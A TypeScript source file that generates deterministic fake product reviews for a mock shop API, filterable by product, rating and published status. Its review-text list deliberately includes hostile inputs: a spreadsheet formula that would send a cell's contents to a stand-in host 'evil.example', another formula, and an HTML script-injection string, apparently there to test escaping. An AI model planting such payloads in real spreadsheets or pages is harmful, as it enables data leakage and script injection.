import { idOf } from '../ids.ts';
import type { Filter } from '../lists.ts';
import { readBoolean, readInteger, readText } from '../query.ts';
import { createdAt, pick, roll, sequence } from '../random.ts';
import { CATALOGUE, type CatalogueProduct, IMAGE_HOST } from './catalogue.ts';
import { inventPerson } from './people.ts';
import type { SeededList, SeedingOptions } from './seeded-list.ts';

/**
 * Texts as strangers write them: several languages and scripts, separators, quotes, line breaks, emojis, markup,
 * and text that a spreadsheet would run as a formula. They are used in turn, so a dozen and a half reviews show all.
 */
export const REVIEW_TEXTS: readonly string[] = [
  'Exactly as described, arrived in two days.',
  'Très satisfaite, la couleur est plus belle en vrai !',
  '=HYPERLINK("http://evil.example/?x="&A1,"Click for a refund")',
  'منتج رائع، التغليف ممتاز والتوصيل سريع',
  'She said "it\'s fine", I say: not bad, not great; would buy again, maybe.',
  '-2 stars for the box, the mug itself is lovely',
  'First week: perfect.\nSecond week: the handle came off.\r\n\r\nSupport replied within an hour, though.',
  'Love it 😍🔥 10/10 👩🏽‍🍳',
  'Gute Qualität, aber „groß“ fällt klein aus – lieber eine Nummer größer.',
  "+1 from me, my sister's kids fight over it",
  '¿Calidad? Buenísima. ¿Envío? Regular…',
  '@work everyone asked where I got this',
  'ok',
  '<b>Great</b> & cheap <script>alert(1)</script>',
  '=1+1',
  '包装很好,物流也快。',
  '  spaces before and after, and a\ttab  ',
  'Reçu cassé. Remboursé sans discuter, merci; 5 étoiles pour le service',
];

/** Salts of the facts that lists are filtered by. */
const PRODUCT = 1;
const RATING = 2;
const PUBLISHED = 3;

/** Shops are mostly liked. */
const RATINGS = [1, 2, 3, 4, 4, 4, 5, 5, 5, 5];

/** Each review is a function of the seed and its position, so that a million cost nothing until they are read. */
export const reviewList: SeededList = {
  paths: ['/api/reviews/search'],
  defaultLimit: 10,
  items: reviewItems,
};

function reviewItems({ storeId, seed, count }: SeedingOptions): ReturnType<SeededList['items']> {
  const productAt = (position: number): CatalogueProduct => pick(CATALOGUE, roll(seed, position, PRODUCT));
  const ratingAt = (position: number): number => pick(RATINGS, roll(seed, position, RATING));
  const isPublished = (position: number): boolean => roll(seed, position, PUBLISHED) < 0.85;

  const filters: Filter[] = [
    {
      name: 'product',
      alias: 'product._id',
      read: readText,
      admits: (id) => (position) => productAt(position)._id === id,
    },
    { name: 'rating', read: readInteger, admits: (rating) => (position) => ratingAt(position) === rating },
    {
      name: 'published',
      read: readBoolean,
      admits: (published) => (position) => isPublished(position) === published,
    },
  ];

  return {
    filters,
    textAt(position) {
      const random = sequence(seed + Math.imul(position + 1, 0x9e3779b1));
      const product = productAt(position);
      const visitor = Math.floor(random() * 5000);
      const person = inventPerson(sequence(seed + visitor));
      const photos = random() < 0.7 ? 0 : 1 + Math.floor(random() * 3);
      return JSON.stringify({
        _id: idOf('reviews', position),
        storeId,
        product: { _id: product._id, name: product.name, image: `${IMAGE_HOST}/products/${product._id}.jpg` },
        customer: {
          _id: idOf('visitors', visitor),
          firstname: person.firstname,
          lastname: person.lastname,
        },
        content: REVIEW_TEXTS[(position + Math.abs(seed)) % REVIEW_TEXTS.length],
        images: Array.from(
          { length: photos },
          (_, index) => `${IMAGE_HOST}/reviews/${position}-${index + 1}.jpg?w=800,h=600`,
        ),
        rating: ratingAt(position),
        published: isPublished(position),
        createdAt: createdAt(position, count, random()),
      });
    },
  };
}
